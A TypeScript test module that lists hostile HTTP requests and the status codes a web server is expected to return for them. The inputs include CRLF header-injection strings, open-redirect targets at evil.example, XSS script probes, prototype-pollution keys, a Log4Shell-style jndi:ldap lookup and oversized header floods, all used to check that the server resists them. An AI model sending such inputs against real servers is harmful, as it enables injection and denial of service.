import { type HostileCase, headerCases, namedCases, request, words } from "./hostile-case.ts";

const ranges = words(`bytes=0-0 bytes=-1 bytes=5-1 bytes=- bytes=0-0,1-1 items=0-1 \xff`);

const conditions = [...words(`"x" W/"x" x "" , \xff\xfe __proto__`), `${'"x",'.repeat(2000)}"y"`];

const codings = [
  ...words("*;q=0 identity;q=0 br;q=-1 br;q=NaN br;q=1e9 compress , ;;;q br,,,gzip __proto__ \xff"),
  "br, ".repeat(2000),
];

const languages = [
  ...words("* xx de;q=0 x-hr ;q=1 __proto__ constructor;q=1 ../../hr <script> \xff -"),
  "",
  "a".repeat(8000),
  `${"xx;q=0.9,".repeat(890)}en`,
];

const cookies = [
  ...words(`
    = ;;;; =b __proto__=hr a=i18n_redirected=hr xi18n_redirected=hr i18n_redirected i18n_redirected=xx
    i18n_redirected=__proto__ i18n_redirected=%zz i18n_redirected=//evil.example
    i18n_redirected=hr%0d%0aX-Evil:1 i18n_redirected=" i18n_redirected=\xff
  `),
  "a=b; ".repeat(4000),
];

const prices = "/pricing-and-availability";
const queries = [
  ...words(`
    /about? /about?&&& /about?% /about?x=%00 /about?x=<script>alert(1)</script>
    /about?x[]=1&x[__proto__]=2 /about?__proto__=1 /about?x=//evil.example /about?x=%0d%0aX-Evil:1
    /about/_payload.json?//evil.example /api/availability?callback=evil /healthz?x=%
    ${prices}?arrival= ${prices}?arrival=2027-02-30&departure=2027-13-01
    ${prices}?arrival=2027-07-10&departure=2027-07-03 ${prices}?arrival=9999-12-31&departure=0001-01-01
    ${prices}?arrival=2027-07-03&departure=9999-12-31 ${prices}?arrival=%zz&departure=%
    ${prices}?arrival=<script>&departure=<script> ${prices}?arrival=1&arrival=2&departure=3
    ${prices}?arrival[]=2027-07-03&departure[x]=2027-07-10
    ${prices}?arrival=-271821-04-20&departure=%2B275760-09-13
  `),
  `${prices}?arrival=${"2".repeat(7000)}&departure=1`,
];

const redirected = ["/en?//evil.example", "/en/?x=%0d%0aLocation:%20//evil.example", "/hr/?x=%zz"];

const large = namedCases([
  ["60 kB of cookies", request("GET /", `Cookie: ${"a=b; ".repeat(12_000)}`), 431],
  ["a header name of 40 kB", request("GET /about", `${"A".repeat(40_000)}: a`), 431],
  ["nine hundred headers", request("GET /about", ...countHeaders(900)), 200],
  ["ten thousand headers", request("GET /about", ...countHeaders(10_000)), 431],
]);

function countHeaders(length: number): string[] {
  return Array.from({ length }, (_, index) => `X-${index}: a`);
}

/** Fields that some server somewhere heeds: sent together, since ours heeds none of them. */
const unheeded = [
  ...words(`
    __proto__:1 constructor:1 Origin:https://evil.example Referer:\xff Sec-Fetch-Site:__proto__
    Sec-Fetch-Dest:document Accept:*/*;q=NaN Authorization:Basic If-Modified-Since:yesterday
    If-Match:"x" Keep-Alive:timeout=999999 Content-Type:text/html;charset=\xff Content-Encoding:br
    User-Agent:jndi:ldap://evil.example/a X-HTTP-Method-Override:DELETE X-Forwarded-For:127.0.0.1
    X-Forwarded-Host:evil.example X-Forwarded-Proto:javascript X-Original-URL:/hr X-Rewrite-URL:/hr
    Via:evil.example Forwarded:for=127.0.0.1;host=evil.example;proto=https
  `),
  "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT",
];

/** Headers and queries that hold anything but what they should. */
export const headerFields: readonly HostileCase[] = [
  ...headerCases(200, "/about", "Range", ranges),
  ...headerCases(200, "/favicon.ico", "Range", ["bytes=0-0"]),
  ...headerCases(404, "/nothing", "Range", ["bytes=0-0"]),
  ...headerCases(200, "/about", "If-None-Match", conditions),
  ...headerCases(304, "/about", "If-None-Match", ["*", " * "]),
  ...headerCases(404, "/nothing", "If-None-Match", ["*", '"x"']),
  ...headerCases(301, "/en/about", "If-None-Match", ["*"]),
  ...headerCases(200, "/about", "Accept-Encoding", codings),
  ...headerCases(404, "/nothing", "Accept-Encoding", ["identity;q=0", "*;q=0", "\xff"]),
  ...headerCases(200, "/", "Accept-Language", languages),
  ...headerCases(302, "/", "Accept-Language", [
    "hr",
    "de-AT",
    "IT",
    "de;q=0.1, hr;q=0.2",
    `${"xx,".repeat(2700)}hr`,
  ]),
  ...headerCases(200, "/", "Cookie", cookies),
  ...headerCases(302, "/", "Cookie", [
    "i18n_redirected=hr",
    "a=b; i18n_redirected=de",
    " i18n_redirected=it ;",
  ]),
  ...namedCases(
    queries.map((query) => [`GET ${query.slice(0, 70)}`, request(`GET ${query}`), 200]),
  ),
  ...namedCases(redirected.map((query) => [`GET ${query}`, request(`GET ${query}`), 301])),
  ...large,
  ...namedCases([
    ["a page with what nobody heeds", request("GET /about", ...unheeded), 200],
    ["a redirect with it", request("GET /en/about", ...unheeded), 301],
  ]),
];
